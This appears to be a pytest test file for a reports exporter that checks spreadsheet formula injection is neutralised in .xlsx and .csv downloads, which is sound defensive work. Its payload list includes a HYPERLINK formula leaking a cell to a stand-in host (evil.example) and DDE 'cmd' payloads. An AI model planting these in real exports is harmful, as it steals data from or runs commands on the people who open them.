"""Formula injection (issue 14, finding 4): text that a spreadsheet would run as a
formula (``= + - @``, a tab or a carriage return first) leaves the .xlsx and the
.csv exports as inert text, prefixed with ``'``; figures stay numbers.

The attacker is a unit's editor: the plan's issuing body, the report's title and
the year's indicator titles are theirs (or an administrator's) to type; the
victim is the province approver who downloads the results.
"""

from collective.thdtre.exporter.cells import neutralise
from io import BytesIO
from openpyxl import load_workbook
from reports_world import add_report
from reports_world import approver
from reports_world import DEADLINE
from reports_world import PROVINCE
from reports_world import province_plan
from reports_world import session
from reports_world import set_metrics
from reports_world import STP
from reports_world import unit_plan

import csv
import io
import pytest
import transaction


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
PAYLOADS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EVIL_METRIC = "=1+1 trẻ em"


@pytest.fixture(scope="class")
def plans(fworld):
    set_metrics(
        {
            "2024": [
                {"id": "children_supported", "title": EVIL_METRIC},
                {"id": "fund_raised_vnd", "title": "Quỹ (đồng)"},
            ]
        }
    )
    province = province_plan(state="published")
    for number, payload in enumerate(PAYLOADS, start=1):
        unit = unit_plan(
            province,
            department=STP,
            issuing_body=payload,
            number=number,
            state="published",
        )
        add_report(
            unit,
            state="approved",
            submitted_date=DEADLINE,
            children_supported=number,
            fund_raised_vnd=-1_000 * number if number == 1 else 1_000 * number,
        )
    transaction.commit()
    return province.absolute_url()


def export(url, extension):
    response = session(approver(PROVINCE), accept="*/*").get(
        f"{url}/@@thdtre-reports.{extension}", allow_redirects=False
    )
    assert response.status_code == 200, response.text
    return response


def cells(sheet):
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


class TestNeutralise:
    @pytest.mark.parametrize("payload", [*PAYLOADS, "=", "\uff1dSUM(A1)"])
    def test_a_formula_start_gets_a_quote(self, payload):
        assert neutralise(payload) == "'" + payload

    @pytest.mark.parametrize("text", ["Sở Tư pháp", "12/KH-STP", "", "a=b", " -1"])
    def test_ordinary_text_is_left_alone(self, text):
        assert neutralise(text) == text

    @pytest.mark.parametrize("value", [0, 35, -5, 1_250_000, 2.5, None])
    def test_numbers_and_blanks_are_left_alone(self, value):
        assert neutralise(value) == value


class TestXlsx:
    def test_no_cell_is_a_formula(self, site, plans):
        book = load_workbook(BytesIO(export(plans, "xlsx").content))

        for sheet in book.worksheets:
            for cell in cells(sheet):
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert cell.value[0] not in "=+-@\t\r", cell.value

    def test_the_payloads_are_kept_as_quoted_text(self, site, plans):
        book = load_workbook(BytesIO(export(plans, "xlsx").content))
        summary = book["Tổng hợp"]
        units = {c.value: c for c in summary["A"][1:]}

        for payload in PAYLOADS:
            assert units["'" + payload].data_type == "s"
        assert summary["F1"].value == "'" + EVIL_METRIC
        titles = [c.value for c in book["Các báo cáo"]["C"][1:]]
        assert f"Báo cáo kết quả của {HYPERLINK}" in titles  # not at the start

    def test_figures_stay_numbers_negative_ones_too(self, site, plans):
        summary = load_workbook(BytesIO(export(plans, "xlsx").content))["Tổng hợp"]
        figures = [c for c in summary["G"][1:] if c.value is not None]

        assert {c.data_type for c in figures} == {"n"}
        assert -1_000 in [c.value for c in figures]


class TestCsv:
    def test_no_cell_starts_a_formula(self, site, plans):
        text = export(plans, "csv").content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))

        for row in rows:
            for value in row:
                assert not value or value[0] not in "=+@\t\r", value
                if value.startswith("-"):  # a negative figure, nothing else
                    assert value.lstrip("-").replace(".", "").isdigit(), value
        units = {row[0] for row in rows[1:]}
        assert {"'" + payload for payload in PAYLOADS} <= units
        assert rows[0][5] == "'" + EVIL_METRIC

    def test_the_figures_keep_the_vietnamese_format(self, site, plans):
        text = export(plans, "csv").content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        by_unit = {row[0]: row for row in rows[1:]}

        assert by_unit["'" + HYPERLINK][5:7] == ["1", "-1.000"]
